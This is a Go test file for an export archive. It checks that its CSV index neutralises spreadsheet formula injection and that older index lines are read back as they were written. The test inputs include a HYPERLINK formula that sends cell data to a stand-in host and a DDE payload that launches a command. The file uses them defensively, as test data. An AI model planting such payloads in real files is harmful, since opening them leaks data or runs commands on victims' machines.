package archive

import (
	"encoding/csv"
	"errors"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"sidekeep/export"
)

// What a service calls its items and collections is nothing that a spreadsheet
// runs when somebody opens index.csv, and a history that is made anew of it has
// them as they are.
func TestIndexRunsNothing(t *testing.T) {
	const evil = `=HYPERLINK("http://x.example/?"&A1)`
	people := &shelved{Collection: export.Collection{ID: "=book", Name: evil, Kind: export.Contacts}}
	for id, version := range map[string]string{
		"=1+1": "-1+cmd|' /C calc'!A0", "@SUM(1)": "+1", "\t=1": " =1", "\u200b=1": "＝1", "a;=1": "x\t@1", "'=1": "''@1", "plain": "W/\"1\"", "-7": "+49 30 1",
	} {
		body := strings.NewReplacer("FN:Person 1", "FN:"+evil, "UID:card-1", "UID:="+id).Replace(card(1))
		people.items = append(people.items, text(id, version, id, body))
	}
	work := &shelved{Collection: export.Collection{ID: "-work", Name: "@work", Kind: export.Events}}
	work.items = append(work.items, text("+1!A", "=v", "=1.ics", strings.NewReplacer("PRODID:-//Test", "X-LINE;P=\"a\":;=1\r\nPRODID:=//Test", "SUMMARY:", "SUMMARY:=").Replace(event(1))))
	camera := &shelved{Collection: export.Collection{ID: "+camera!", Name: "-photos", Kind: export.Photos}}
	camera.items = append(camera.items, picture("@p", "-1-1", "=One/@Two", []byte("picture"), aDay))
	camera.items[0].Name = "=evil.jpg"
	a := create(t, Options{})
	run(t, a, &shelf{collections: []*shelved{people, work, camera}})
	whole(t, a)
	before := said(t, a, Query{})
	dir := a.Dir()

	f, err := os.Open(filepath.Join(dir, "data", "Phone", indexFile))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	n := 0
	for r := csv.NewReader(f); ; n++ {
		record, err := r.Read()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range record {
			for _, part := range strings.FieldsFunc(s, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
				part = strings.TrimLeftFunc(part, func(r rune) bool { return unicode.IsSpace(r) || unicode.In(r, unicode.Cc, unicode.Cf) })
				if !strings.HasPrefix(part, "=") && !strings.HasPrefix(part, "@") && !strings.HasPrefix(part, "＝") && !regexp.MustCompile(`^[-+].*[(|!=]`).MatchString(part) {
					continue
				}
				t.Errorf("a spreadsheet runs %q", s)
			}
		}
	}
	if n != 11 {
		t.Errorf("%d lines", n)
	}
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(filepath.Join(dir, historyFile)); err != nil {
		t.Fatal(err)
	}
	repair(t, dir)
	a = open(t, dir)
	if after := said(t, a, Query{}); len(after) != len(before) {
		t.Errorf("%d items, want %d", len(after), len(before))
	} else {
		for id, want := range before {
			if after[id] != want {
				t.Errorf("%q is %q, want %q", id, after[id], want)
			}
		}
	}
	if l := run(t, a, &shelf{collections: []*shelved{people, work, camera}}); l.Kept != 0 || l.Gone != 0 {
		t.Errorf("the next export: %+v", l.Counts)
	}
}

// A line says itself whether something in it is guarded: an index of an older
// format is read as it stands.
func TestIndexLineIsReadAsItWasWritten(t *testing.T) {
	for _, line := range [][]string{
		{"'=1", "'+49 30 1", "''=1", "=1", "a;'=1", ""},
		{"plain", "'quoted'", "+49 30 1", "'+49 30 1", ""},
	} {
		got := slices.Clone(line)
		guard(got)
		guarded := got[len(got)-1] == "1"
		if guarded {
			unguard(got)
		}
		if !slices.Equal(got[:len(got)-1], line[:len(line)-1]) {
			t.Errorf("%q is read as %q", line, got)
		}
	}
	a := create(t, Options{})
	s := smallPhone()
	s.collections[0].items[0] = text("'=1", "'@2", "", card(0))
	run(t, a, s)
	file := filepath.Join(a.Dir(), "data", "Phone", indexFile)
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(f).ReadAll()
	if err := errors.Join(err, f.Close()); err != nil {
		t.Fatal(err)
	}
	for i := range records { // as format 2 has it
		if records[i][len(records[i])-1] == "1" {
			unguard(records[i])
		}
		records[i] = records[i][:len(records[i])-1]
	}
	out, err := os.Create(file)
	if err != nil {
		t.Fatal(err)
	}
	w := csv.NewWriter(out)
	w.UseCRLF = true
	if err := errors.Join(w.WriteAll(records), out.Close()); err != nil {
		t.Fatal(err)
	}
	dir := a.Dir()
	if err := errors.Join(a.Close(), os.Remove(filepath.Join(dir, historyFile))); err != nil {
		t.Fatal(err)
	}
	repair(t, dir)
	a = open(t, dir)
	if l := run(t, a, s); l.Kept != 0 || l.Gone != 0 {
		t.Errorf("the next export: %+v", l.Counts)
	}
}
